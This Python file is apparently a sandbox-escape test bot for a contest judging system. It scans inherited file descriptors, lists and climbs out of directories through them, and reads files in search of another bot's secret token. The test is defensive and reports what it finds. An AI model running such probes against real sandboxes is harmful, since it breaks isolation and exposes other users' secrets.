"""Hostile Tanks bot: inherited descriptors.

Whatever descriptor the coderunner inherited from the controller, the
forkserver or cf-fight is the bot's to use: a directory descriptor lets it
openat(fd, "..") out of its root, a socket reaches whoever is at the other
end, a file is readable, a pipe may be another bot's. The bot looks at every
descriptor from 0 to 4095 (without /proc: fstat and fcntl), and uses what it
finds: lists and climbs out of directories, reads files, looks for the
other bot's secret. Its own two protocol pipes (3 and 4) and its stdio are
expected; anything else is reported.
"""
# @ESCAPE_PRELUDE@


import re
import stat

PATTERN = re.compile(('CFSECRET' + '-(?:plain|env)-' + '[0-9a-f]{16}').encode())


def attack():
    kinds = {}
    for fd in range(0, 4096):
        try:
            st = os.fstat(fd)
        except OSError:
            continue
        mode = st.st_mode
        kind = ('dir' if stat.S_ISDIR(mode) else 'file' if stat.S_ISREG(mode) else
                'fifo' if stat.S_ISFIFO(mode) else 'sock' if stat.S_ISSOCK(mode) else
                'chr' if stat.S_ISCHR(mode) else 'other')
        kinds[fd] = kind
        if fd in (0, 1, 2, 3, 4) and kind in ('fifo', 'chr'):
            continue
        note('fd %d is a %s (dev %d ino %d)' % (fd, kind, st.st_dev, st.st_ino))
        if kind == 'dir':
            try:
                names = os.listdir(fd)
                evidence('inherited directory fd %d: %s' % (fd, names[:10]))
            except OSError:
                pass
            try:
                up = os.open('..', os.O_RDONLY, dir_fd=fd)
                evidence('climbed out of fd %d: %s' % (fd, os.listdir(up)[:10]))
            except OSError:
                pass
        elif kind == 'file':
            try:
                data = os.pread(fd, 1 << 16, 0)
                for m in PATTERN.finditer(data):
                    sys.stderr.write('LEAK fd %d %s\n' % (fd, m.group(0).decode()))
                evidence('inherited readable file fd %d (%d bytes)' % (fd, len(data)))
            except OSError:
                pass
        elif kind == 'sock':
            evidence('inherited socket fd %d' % fd)
        elif kind == 'fifo' and fd > 4:
            evidence('inherited extra pipe fd %d' % fd)
    note('descriptors: %s' % kinds)


# @ESCAPE_ATTACK_MAIN@
